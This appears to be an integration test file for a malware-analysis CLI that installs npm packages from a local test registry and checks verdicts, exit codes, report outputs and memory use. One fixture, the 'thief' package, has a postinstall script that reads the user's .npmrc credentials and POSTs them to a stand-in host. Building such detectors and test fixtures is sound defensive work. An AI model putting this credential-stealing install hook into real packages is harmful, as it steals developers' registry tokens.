import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { packPackage, type Registry, startRegistry } from '@assay/testing';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { CliPlace, type Ended } from './started-cli.ts';

const place = new CliPlace();
let registry: Registry;
let full: Ended;

const steals = `const fs = require('fs'), os = require('os'), http = require('http');
const body = fs.readFileSync(os.homedir() + '/.npmrc');
http.request({ host: 'collector.invalid', method: 'POST', path: '/x' }, (answer) => answer.resume()).end(body);`;

beforeAll(async () => {
  registry = await startRegistry({
    packages: {
      fine: { versions: { '1.0.0': { files: { 'index.js': 'module.exports = (a) => a + 1;' } } } },
      thief: {
        versions: {
          '1.0.0': { manifest: { scripts: { postinstall: 'node steal.js' } }, files: { 'steal.js': steals } },
        },
      },
    },
  });
  place.registry = registry.url;
  full = await place.start([
    'analyze',
    'pkg:npm/fine@1.0.0',
    '--json',
    '--html',
    'r.html',
    '--sarif',
    'r.sarif',
    '--trace',
    'r.gz',
  ]);
});
afterAll(async () => {
  await registry.close();
  place.remove();
});

const analyze = (...argv: string[]) => place.start(['analyze', '--runs', 'r0', ...argv]);

it('a full analysis prints its report and nothing else, and exits 0', () => {
  expect({ code: full.code, stderr: full.stderr }).toEqual({ code: 0, stderr: '' });
  expect(JSON.parse(full.stdout)).toMatchObject({
    schema_version: '1.0',
    purl: 'pkg:npm/fine@1.0.0',
    verdict: { level: 'benign', coverage: 'complete' },
  });
});

it('the other outputs are written: a page, SARIF, and the trace that the report names', () => {
  const html = readFileSync(place.file('r.html'), 'utf8');
  expect(html).toMatch(/^<!doctype html>/i);
  expect(html.trimEnd()).toMatch(/<\/html>$/i);
  expect(html).toContain('pkg:npm/fine@1.0.0');
  expect(JSON.parse(readFileSync(place.file('r.sarif'), 'utf8'))).toMatchObject({
    version: '2.1.0',
    runs: [{ tool: { driver: { name: expect.stringMatching(/assay/i) } } }],
  });
  const lines = gunzipSync(readFileSync(place.file('r.gz')))
    .toString()
    .trim()
    .split('\n');
  expect(lines.length).toBeGreaterThan(10);
  for (const line of lines) expect(JSON.parse(line)).toHaveProperty('id');
  const report = JSON.parse(full.stdout) as { artifacts: { size_bytes: number }[] };
  expect(report.artifacts[0]?.size_bytes).toBe(statSync(place.file('r.gz')).size);
});

it('fewer runs are less than benign, and exit 0 because they were asked for', async () => {
  const ended = await analyze('pkg:npm/fine@1.0.0', '--json');
  expect(ended.code).toBe(0);
  expect(JSON.parse(ended.stdout)).toMatchObject({ verdict: { level: 'inconclusive', coverage: 'partial' } });
});

it('a level at or above --fail-on exits 1, below it 0, and with never always 0', async () => {
  const code = async (...argv: string[]) => (await analyze(...argv)).code;
  expect(await code('pkg:npm/thief@1.0.0')).toBe(1);
  expect(await code('pkg:npm/thief@1.0.0', '--fail-on', 'malicious')).toBe(1);
  expect(await code('pkg:npm/thief@1.0.0', '--fail-on', 'never')).toBe(0);
  expect(await code('pkg:npm/fine@1.0.0', '--fail-on', 'inconclusive')).toBe(1);
});

it('an archive is analysed under its own name, and compared with the version before', async () => {
  writeFileSync(
    place.file('now.tgz'),
    packPackage({ name: 'mine', version: '1.1.0', scripts: { install: 'true' } }, { 'b.js': '1' }),
  );
  writeFileSync(place.file('before.tgz'), packPackage({ name: 'mine', version: '1.0.0' }, { 'a.js': '1' }));
  const ended = await analyze('./now.tgz', '--previous', 'before.tgz', '--json');
  expect(ended.code).toBe(0);
  expect(JSON.parse(ended.stdout)).toMatchObject({
    purl: 'pkg:npm/mine@1.1.0',
    source: { kind: 'archive' },
    baseline: { status: 'compared', previous_version: '1.0.0', new: { hooks: ['install'], files: ['b.js'] } },
  });
});

it('an incomplete analysis exits 3, and 0 when that was said to do', async () => {
  writeFileSync(
    place.file('needs.tgz'),
    packPackage({ name: 'needs', version: '1.0.0', dependencies: { absent: '1.0.0' } }),
  );
  expect((await place.start(['analyze', './needs.tgz'])).code).toBe(3);
  const accepted = await place.start(['analyze', './needs.tgz', '--accept-inconclusive']);
  expect(accepted).toMatchObject({
    code: 0,
    stderr: expect.stringMatching(/^assay: the analysis is incomplete; accepted[^\n]*\n$/),
  });
});

it('progress goes to standard error, and only when asked for', async () => {
  const ended = await analyze('pkg:npm/fine@1.0.0', '--verbose');
  expect(ended.stderr).toMatch(/r0 install started[\s\S]*r0 install completed/);
  expect(ended.stdout).not.toMatch(/r0 install started/);
});

/** 300,000 events: the orchestrator may hold on to none of what it has passed on. */
const floods = `const fs = require('fs');
for (let i = 0; i < 150000; i++) { const file = '/tmp/f' + (i % 977) + '-' + i; fs.closeSync(fs.openSync(file, 'w')); fs.unlinkSync(file); }`;

it('an install script that makes 300,000 file events does not grow us beyond 400 MB', {
  timeout: 170_000,
}, async () => {
  writeFileSync(
    place.file('flood.tgz'),
    packPackage({ name: 'flood', version: '1.0.0', scripts: { install: 'node flood.js' } }, { 'flood.js': floods }),
  );
  // Loaded ahead of the command: it leaves the largest resident set, in KiB, when the command exits.
  const peak = place.file('peak');
  writeFileSync(
    place.file('peak.cjs'),
    `process.on('exit', () => require('fs').writeFileSync(${JSON.stringify(peak)}, String(process.resourceUsage().maxRSS)));`,
  );
  const ended = await place.start(['analyze', './flood.tgz', '--runs', 'r0', '--json'], {
    env: { NODE_OPTIONS: `--require ${place.file('peak.cjs')}` },
  });
  const report = JSON.parse(ended.stdout) as { Analysis: { install: { SyscallCounts: Record<string, number> } } };
  const counts = report.Analysis.install.SyscallCounts;
  expect((counts.unlink ?? 0) + (counts.openat ?? 0) + (counts.open ?? 0)).toBeGreaterThan(200_000);
  expect(Number(readFileSync(peak, 'utf8'))).toBeLessThan(400_000);
});
